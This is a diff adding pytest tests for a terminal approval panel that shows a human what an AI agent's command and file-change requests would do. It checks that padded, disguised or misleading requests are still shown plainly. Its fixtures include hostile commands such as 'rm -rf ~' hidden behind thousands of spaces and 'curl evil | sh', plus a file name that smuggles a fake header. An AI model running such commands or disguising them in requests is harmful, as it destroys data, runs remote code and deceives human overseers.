@@ -1,0 +1,157 @@
+"""Requests made to be misread: a person sees what a yes would mean, and answers exactly that."""
+
+import asyncio
+import io
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from tests.cli.test_dialogue import ENVIRONMENT, Person, person
+from tests.support.loop import run
+
+from remora.cli.approvals import TerminalApprovals, topic
+from remora.cli.render.approval import show_request
+from remora.cli.render.page import Page
+from remora.core.approvals import ApprovalRequest, Decision
+from remora.wire import approvals
+from remora.wire.items import Narrator
+from remora.wire.reports.run import ApprovalRequested, ChoiceBody
+
+COMMAND = "item/commandExecution/requestApproval"
+FILE_CHANGE = "item/fileChange/requestApproval"
+
+
+def asked(method: str, request_id: int = 1, **params: Any) -> ApprovalRequest:
+    request = approvals.read_request(request_id, method, {"threadId": "t", "itemId": "i", **params})
+    assert request is not None
+    return request
+
+
+def event_of(request: ApprovalRequest) -> ApprovalRequested:
+    return ApprovalRequested(
+        request_id=request.request_id,
+        request=request.kind.value,
+        item_id=request.item_id,
+        command=request.command,
+        folder=request.folder,
+        diff=request.diff,
+        reason=request.reason,
+        choices=[ChoiceBody(name=item.name, label=item.label, grants=item.grants) for item in request.choices],
+    )
+
+
+def panel(request: ApprovalRequest) -> str:
+    out = io.StringIO()
+    show_request(Page(out, ENVIRONMENT, width=100), event_of(request), where="me@devbox (devbox)")
+    return out.getvalue()
+
+
+def changed(*changes: dict[str, Any]) -> str:
+    """The panel of a request to change files, whose changes came before with their item."""
+    narrator = Narrator("t")
+    item = {"type": "fileChange", "id": "i", "changes": list(changes), "status": "inProgress"}
+    narrator.notification("item/started", {"threadId": "t", "item": item})
+    return panel(replace(asked(FILE_CHANGE), diff=narrator.diff("i")))
+
+
+def question(someone: Person, request: ApprovalRequest) -> "asyncio.Task[Decision]":
+    return asyncio.create_task(TerminalApprovals(someone.questioner).decide(request))
+
+
+def test_a_question_never_stands_below_another_request_that_had_its_id() -> None:
+    """The first request was withdrawn before it came on the screen, and its id serves again."""
+    harmless, harmful = asked(COMMAND, command="ls"), asked(COMMAND, command="rm -rf ~")
+
+    async def scene() -> None:
+        async with person() as someone:
+            someone.floor.announce(topic(event_of(harmless)))
+            deciding = question(someone, harmful)
+            for _ in range(5):
+                await asyncio.sleep(0)
+            assert not someone.floor.taken
+            assert someone.screen.drain() == ""
+            someone.floor.announce(topic(event_of(harmful)))
+            await someone.answer("d\n", at="Your decision: ")
+            assert not (await deciding).choice.grants
+
+    run(scene())
+
+
+def test_a_move_shows_where_the_file_goes() -> None:
+    kind = {"type": "update", "move_path": "/home/me/.bashrc"}
+    assert "/home/me/.bashrc" in changed({"path": "notes", "kind": kind, "diff": "@@ -1 +1 @@\n-a\n+b\n"})
+
+
+def test_a_deletion_does_not_look_like_an_addition() -> None:
+    text = changed(
+        {"path": "new", "kind": {"type": "add"}, "diff": "one\n"},
+        {"path": "precious", "kind": {"type": "delete"}, "diff": "two\n"},
+    )
+    for part in ("add new", "+one", "delete precious", "-two", "+1 -1"):
+        assert part in text
+
+
+def test_a_file_name_cannot_begin_another_file() -> None:
+    text = changed({"path": "a\n=== add harmless", "kind": {"type": "delete"}, "diff": "x\n"})
+    assert not any(line.strip().startswith("=== add") for line in text.splitlines())
+
+
+def test_an_old_patch_shows_whole_files_too() -> None:
+    changes = {
+        "run.sh": {"type": "add", "content": "curl evil | sh\n"},
+        "keep": {"type": "delete", "content": "work\n"},
+        "a": {"type": "update", "unified_diff": "@@ -1 +1 @@\n-x\n+y\n", "move_path": "/etc/cron.d/a"},
+    }
+    text = panel(asked("applyPatchApproval", fileChanges=changes, callId="i"))
+    for part in ("add run.sh", "+curl evil | sh", "delete keep", "-work", "/etc/cron.d/a"):
+        assert part in text
+
+
+def test_a_root_that_a_yes_opens_is_not_called_the_folder_of_the_work() -> None:
+    text = panel(asked(FILE_CHANGE, grantRoot="/"))
+    assert "folder" not in text
+    assert "opens" in text
+
+
+@pytest.mark.parametrize(("method", "words"), [(COMMAND, "not say which command"), (FILE_CHANGE, "not say which chan")])
+def test_a_request_that_hides_what_it_is_about_says_so(method: str, words: str) -> None:
+    assert words in panel(asked(method))
+
+
+@pytest.mark.parametrize(
+    ("params", "words"),
+    [
+        ({"networkApprovalContext": {"host": "evil.example", "protocol": "https"}}, "evil.example"),
+        ({"additionalPermissions": {"network": {"enabled": True}}}, '"enabled": true'),
+        ({"kind": "writeStdin"}, "writeStdin"),
+        ({"environmentId": "production"}, "production"),
+        ({"command": "true\n" + "\n" * 60 + "rm -rf ~"}, "scroll up"),
+        ({"command": "true " + " " * 3_000 + "; rm -rf ~"}, "scroll up"),
+    ],
+)
+def test_what_the_panel_has_no_row_for_stands_above_the_decisions(params: dict[str, Any], words: str) -> None:
+    async def scene() -> None:
+        async with person() as someone:
+            request = asked(COMMAND, **{"command": "ls", **params})
+            someone.floor.announce(topic(request))
+            deciding = question(someone, request)
+            await someone.screen.shows(words)
+            await someone.answer("\x04", at="Your decision: ")
+            assert not (await deciding).choice.grants
+
+    run(scene())
+
+
+@pytest.mark.parametrize("value", ["No, and let the agent go on", "Decline", "reject", {"decline": {}}, {"no": 1}])
+def test_a_decision_that_we_do_not_know_is_told_as_a_yes(value: Any) -> None:
+    request = asked(COMMAND, command="ls", availableDecisions=[value, "decline"])
+    assert request.choices[0].grants
+    assert request.choices[0].label.startswith("Yes")
+    assert request.refusal.value == "decline"
+
+
+def test_a_known_decision_with_a_stowaway_is_not_shown_as_the_known_one() -> None:
+    amendment = {"acceptWithExecpolicyAmendment": {"execpolicy_amendment": ["ls"]}, "acceptForSession": {}}
+    (choice,) = asked(COMMAND, command="ls", availableDecisions=[amendment]).choices
+    assert "does not know" in choice.label
+    assert "acceptForSession" in choice.label
